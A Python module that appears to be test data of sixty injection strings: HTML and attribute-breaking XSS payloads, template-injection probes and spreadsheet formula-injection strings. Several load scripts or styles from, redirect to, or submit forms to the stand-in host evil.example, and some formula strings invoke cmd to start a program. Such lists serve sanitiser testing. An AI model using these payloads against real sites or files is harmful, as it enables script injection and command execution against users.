"""Sixty texts that turn into programs, links, formulas or headers wherever they are not treated as text.

From the usual collections: contexts of HTML, attributes, addresses, styles, templates, spreadsheets, calendars, mail.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(3)>",
    "<img src=`x`onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(8)>",
    "<iframe src=javascript:alert(9)></iframe>",
    "<iframe srcdoc='<script>alert(10)</script>'>",
    "<object data=javascript:alert(11)>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(12)>x</a>",
    "<a href='data:text/html,<script>alert(13)</script>'>x</a>",
    "<body onload=alert(14)>",
    "<input autofocus onfocus=alert(15)>",
    "<select autofocus onfocus=alert(16)>",
    "<textarea autofocus onfocus=alert(17)>",
    "<details open ontoggle=alert(18)>",
    "<video><source onerror=alert(19)>",
    "<audio src=x onerror=alert(20)>",
    "<marquee onstart=alert(21)>",
    "<form action=//evil.example><button>x",
    "<button formaction=javascript:alert(22)>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(23))'>",
    "<template><script>alert(24)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(25)>'>",
    "<!--><img src=x onerror=alert(26)>-->",
    "<![CDATA[<img src=x onerror=alert(27)>]]>",
    "<?xml version='1.0'?><x onclick=alert(28)>",
    "</title><script>alert(29)</script>",
    "</textarea><script>alert(30)</script>",
    "</option></select><script>alert(31)</script>",
    "</style><script>alert(32)</script>",
    "</script><script>alert(33)</script>",
    "--><script>alert(34)</script>",
    '"><script>alert(35)</script>',
    "'><script>alert(36)</script>",
    '" onmouseover="alert(37)',
    "' onmouseover='alert(38)",
    "` onmouseover=`alert(39)",
    '" autofocus onfocus=alert(40) x="',
    "&lt;script&gt;alert(41)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(42)&#62;",
    "<<script>alert(43)//<</script>",
    "<script/xss>alert(44)</script>",
    "javascript:alert(45)",
)
TEMPLATES = ("{{ 7*7*191 }}", "{% raw %}{{ config }}", "${7*7*191}", "#{ 7*7*191 }")
FORMULAS = (
    '=HYPERLINK("//evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
PAYLOADS = MARKUP + TEMPLATES + FORMULAS


def lines(longest: int) -> list[str]:
    """All of them in as few single lines as fit; each formula begins one."""
    made = list(FORMULAS)
    for payload in MARKUP + TEMPLATES:
        if len(made[-1]) + len(payload) + 1 > longest or made[-1] in FORMULAS:
            made.append(payload)
        else:
            made[-1] += f" {payload}"
    return made
